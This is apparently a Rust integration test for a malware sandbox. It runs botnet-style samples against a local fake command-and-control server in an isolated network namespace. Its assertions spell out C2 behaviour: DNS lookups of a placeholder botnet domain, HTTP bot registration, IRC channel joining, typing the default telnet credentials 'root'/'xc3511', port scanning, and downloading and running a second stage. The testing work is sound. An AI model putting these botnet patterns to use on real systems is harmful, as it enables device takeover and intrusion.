//! The network samples against a fake C2: a network namespace this test creates (every
//! address local, nothing routed anywhere else) runs `support/fake_c2.py` (DNS, HTTP,
//! IRC, telnet); the sandbox joins that namespace. Checks what the samples print and
//! what the fake C2 received. Needs root, iproute2 and python3.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use ferret_sandbox::{ExitStatus, Network, Outcome, Sandbox, SandboxConfig, SpawnSpec, WaitStatus};

fn work_root() -> PathBuf {
    let p = PathBuf::from("/tmp/ferret-samples-tests");
    fs::create_dir_all(&p).expect("work root");
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).expect("work root mode");
    p
}

fn ip(args: &[&str]) {
    let st = Command::new("ip")
        .args(args)
        .status()
        .expect("iproute2's ip is needed (scripts/install.sh installs it)");
    assert!(st.success(), "ip {args:?} failed");
}

/// The fake C2: its namespace and server process, removed on drop.
struct FakeC2 {
    netns: String,
    server: Child,
    log: PathBuf,
}

impl FakeC2 {
    fn start(tag: &str, stage2: &Path) -> FakeC2 {
        let netns = format!("ferret-samples-{}-{tag}", std::process::id());
        let log = work_root().join(format!("fake-c2-{tag}.log"));
        let _ = fs::remove_file(&log);
        ip(&["netns", "add", &netns]);
        // From here on, drop cleans up even if a step fails.
        let mut guard = FakeC2 {
            netns: netns.clone(),
            server: Command::new("true").spawn().expect("true"),
            log: log.clone(),
        };
        ip(&["-n", &netns, "link", "set", "lo", "up"]);
        ip(&[
            "-n",
            &netns,
            "route",
            "add",
            "local",
            "0.0.0.0/0",
            "dev",
            "lo",
        ]);
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/fake_c2.py");
        let _ = guard.server.wait();
        guard.server = Command::new("ip")
            .args(["netns", "exec", &netns, "python3", script, "--log"])
            .arg(&log)
            .arg("--stage2")
            .arg(stage2)
            .args(["--seconds", "90"])
            .stdin(Stdio::null())
            .spawn()
            .expect("python3 is needed for the fake C2");
        let end = Instant::now() + Duration::from_secs(10);
        while !fs::read_to_string(&log).is_ok_and(|l| l.contains("\"ready\"")) {
            assert!(Instant::now() < end, "the fake C2 did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
        guard
    }

    fn log(&self) -> String {
        fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for FakeC2 {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.netns])
            .status();
        let _ = fs::remove_file(&self.log);
    }
}

fn run_in(c2: &FakeC2, name: &str, args: &[&str]) -> Outcome {
    ferret_samples::build();
    let exe = ferret_samples::path("x86_64", name, true);
    let inside = format!("/root/{name}");
    let mut cfg = SandboxConfig::new(work_root()).install(&exe, &inside, 0o755);
    cfg.network = Network::Join(PathBuf::from(format!("/run/netns/{}", c2.netns)));
    let mut argv = vec![inside];
    argv.extend(args.iter().map(|a| (*a).to_owned()));
    let mut sb = Sandbox::new(cfg).expect("sandbox");
    let spawned = sb.spawn(SpawnSpec::new(argv)).expect("spawn");
    spawned.release().expect("release");
    let waited = sb
        .wait(Instant::now() + Duration::from_secs(40))
        .expect("wait");
    let o = sb.teardown().expect("teardown");
    assert_eq!(
        waited,
        WaitStatus::Exited,
        "{name}: {}",
        String::from_utf8_lossy(&o.stdout.data)
    );
    o
}

fn require_root() {
    // SAFETY: geteuid has no preconditions.
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "this test needs root (namespaces)"
    );
}

#[test]
fn c2_client_talks_dns_http_irc_telnet_and_scans() {
    require_root();
    let stage2 = ferret_samples::build().join("x86_64/clean-static");
    let c2 = FakeC2::start("c2", &stage2);
    let o = run_in(&c2, "c2_client", &[]);
    let out = String::from_utf8_lossy(&o.stdout.data).into_owned();
    let log = c2.log();
    let ctx = format!("--- stdout ---\n{out}\n--- fake C2 log ---\n{log}");
    for line in [
        "getaddrinfo(cnc.ferret-botnet.example): ok 192.0.2.80\n",
        "connect C2:80: ok",
        "http response: HTTP/1.0 200 OK\n",
        "irc welcome: :fake.example 001 ferretbot :Welcome\n",
        "telnet prompt: login: \n",
        "scan: 50 attempts, 50 open\n",
    ] {
        assert!(out.contains(line), "missing {line:?}\n{ctx}");
    }
    for fragment in [
        r#""proto": "dns", "name": "cnc.ferret-botnet.example", "qtype": 1"#,
        r#""request": "GET /bot/register?id=ferret HTTP/1.1", "host": "cnc.ferret-botnet.example""#,
        r#""line": "NICK ferretbot""#,
        r##""line": "JOIN #ferret-c2 botkey""##,
        r#""typed": "root\r\nxc3511\r\n""#,
    ] {
        assert!(log.contains(fragment), "C2 did not see {fragment}\n{ctx}");
    }
    assert_eq!(o.sample_exit, Some(ExitStatus::Code(0)), "{ctx}");
}

#[test]
fn second_stage_is_downloaded_and_run() {
    require_root();
    let stage2 = ferret_samples::build().join("x86_64/clean-static");
    let size = fs::metadata(&stage2).expect("stage2").len();
    let c2 = FakeC2::start("stage2", &stage2);
    let o = run_in(
        &c2,
        "second_stage_downloader",
        &["dl.ferret-botnet.example"],
    );
    let out = String::from_utf8_lossy(&o.stdout.data).into_owned();
    let ctx = format!("--- stdout ---\n{out}\n--- fake C2 log ---\n{}", c2.log());
    assert!(
        out.contains(&format!("download: ok {size} bytes to /tmp/stage2\n")),
        "{ctx}"
    );
    // The second stage (clean) ran in place of the downloader.
    assert!(out.contains("primes below 100000: 9592\n"), "{ctx}");
    assert_eq!(o.sample_exit, Some(ExitStatus::Code(0)), "{ctx}");
    assert!(
        c2.log().contains(r#""request": "GET /stage2 HTTP/1.0""#),
        "{ctx}"
    );
}
